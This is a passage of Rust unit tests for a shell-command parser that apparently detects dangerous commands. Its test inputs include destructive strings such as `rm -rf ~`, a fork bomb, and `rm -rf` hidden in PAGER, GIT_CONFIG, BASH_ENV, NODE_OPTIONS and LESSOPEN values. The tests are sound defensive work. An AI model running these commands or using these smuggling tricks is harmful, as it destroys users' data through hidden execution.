        assert_eq!(operands(&s, "rm"), vec![vec!["/".to_string()]]);
    }

    #[test]
    fn nested_backticks_are_lowered() {
        // IRT-27: one backtick each side, `\`` unescaped in the body.
        let s = ir(r"echo `echo \`id\``");
        assert!(s.commands.iter().any(|c| c.name == "id" && c.depth == 2));
        assert!(!has_syntax_issue(&s));
        let s = ir(r"echo `rm -rf \$HOME`");
        assert_eq!(operands(&s, "rm"), vec![vec!["/home/dev".to_string()]]);
    }

    #[test]
    fn quoted_braces_are_literal() {
        // IRT-50.
        assert_eq!(operands(&ir(r#"echo x"{a,b}"y"#), "echo"), vec![vec!["x{a,b}y".to_string()]]);
        assert_eq!(operands(&ir(r#"echo {a,"b,c"}"#), "echo"), vec![vec!["a".to_string(), "b,c".to_string()]]);
        assert_eq!(operands(&ir(r#"rm -rf {/tmp/a,"/tmp/b"}"#), "rm"), vec![vec!["/tmp/a".to_string(), "/tmp/b".to_string()]]);
    }

    #[test]
    fn tilde_expands_only_as_a_literal_prefix() {
        // IRT-53.
        assert_eq!(operands(&ir(r#"echo "$HOME"~"#), "echo"), vec![vec!["/home/dev~".to_string()]]);
        assert_eq!(operands(&ir("echo ~'sq'"), "echo"), vec![vec!["~sq".to_string()]]);
        assert_eq!(operands(&ir(r#"ls ~"/x""#), "ls"), vec![vec!["~/x".to_string()]]);
        // Still expanded: a bare `~`, `~/…` followed by quotes or expansions.
        assert_eq!(operands(&ir(r#"ls ~/"a b" ~"#), "ls"), vec![vec!["/home/dev/a b".to_string(), "/home/dev".to_string()]]);
        assert_eq!(operands(&ir("rm -rf ~/$X"), "rm")[0][0], "/home/dev/$X");
    }

    #[test]
    fn stray_reserved_word_is_a_syntax_issue() {
        // IRT-33.
        assert!(has_syntax_issue(&ir("fi")));
        assert!(has_syntax_issue(&ir("ls; done")));
        assert!(!has_syntax_issue(&ir(r#""fi""#)));
        assert!(!has_syntax_issue(&ir("if true; then ls; fi")));
    }

    #[test]
    fn aliases_expand_where_called() {
        // Issue 16: `x ~` is `rm -rf ~`.
        let s = ir("alias x='rm -rf'; x ~");
        assert!(operands(&s, "rm").contains(&vec!["/home/dev".to_string()]), "{:?}", operands(&s, "rm"));
        let s = ir("alias ll='ls -la'; ll src");
        assert!(operands(&s, "ls").contains(&vec!["src".to_string()]));
    }

    #[test]
    fn functions_expand_with_their_arguments_bound() {
        // Issue 16: `f ~` decides what `rm -rf ~` decides.
        let s = ir(r#"f() { rm -rf "$1"; }; f ~"#);
        assert!(operands(&s, "rm").contains(&vec!["/home/dev".to_string()]));
        let s = ir(r#"f() { ls "$@"; }; f a 'b c'"#);
        assert!(operands(&s, "ls").contains(&vec!["a".to_string(), "b c".to_string()]), "{:?}", operands(&s, "ls"));
        // Each call binds its own arguments; a definition never called is read once.
        let s = ir(r#"f() { ls "$1"; }; f a; f b"#);
        assert_eq!(operands(&s, "ls").len(), 3);
        assert_eq!(operands(&ir(r#"f() { ls "$1"; }"#), "ls").len(), 1);
        // Recursion stops at the call of a function being expanded.
        let s = ir(":(){ :|:& };:");
        assert!(s.commands.len() < 16, "{}", s.commands.len());
        let s = ir("a() { b; }; b() { a; }; a");
        assert!(s.commands.len() < 16 && s.issues.is_empty());
    }

    #[test]
    fn code_in_variables_is_read_from_the_table() {
        let origins = |s: &Script, name: &str| s.commands.iter().filter(|c| c.name == name).map(|c| format!("{:?}", c.origin)).collect::<Vec<_>>();
        assert_eq!(origins(&ir("PAGER='rm -rf ~' git log"), "rm"), [r#"Definition { name: "PAGER" }"#]);
        assert_eq!(origins(&ir("env EDITOR='rm -rf ~' git commit"), "rm").len(), 1, "env's assignments too");
        // A `GIT_CONFIG_VALUE_<n>` runs when its key holds a command, in either order.
        assert_eq!(origins(&ir("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf ~' git log"), "rm").len(), 1);
        assert_eq!(origins(&ir("export GIT_CONFIG_VALUE_3='!rm -rf ~'; export GIT_CONFIG_KEY_3=alias.x; git x"), "rm").len(), 1);
        assert!(origins(&ir("GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0='rm -rf ~' git log"), "rm").is_empty());
        // A file of code the command line wrote is read as its language.
        assert_eq!(origins(&ir("echo 'rm -rf ~' > pre; BASH_ENV=pre bash -c make"), "rm").len(), 1);
        let s = ir("echo 'require(\"child_process\").execSync(\"rm -rf ~\")' > h.js; NODE_OPTIONS='--require ./h.js' npm test");
        assert_eq!(origins(&s, "rm").len(), 1);
        assert!(origins(&ir("LESSOPEN='|rm -rf ~' less x"), "rm").len() == 1, "the leading bar is less's");
    }

    #[test]
    fn c_style_for_variables_are_unknown_in_the_body() {
        // IRT-10.
        let s = ir("for ((i=0;i<3;i++)); do echo $i; done");
        assert!(s.commands.iter().filter(|c| c.name == "echo").all(|c| c.argv.operands.iter().all(|w| w.dynamic)));
        let s = ir("for ((;;d=/)); do rm -rf $d; done");
        assert!(s.commands.iter().filter(|c| c.name == "rm").all(|c| c.argv.operands.iter().all(|w| w.dynamic)));
    }
}
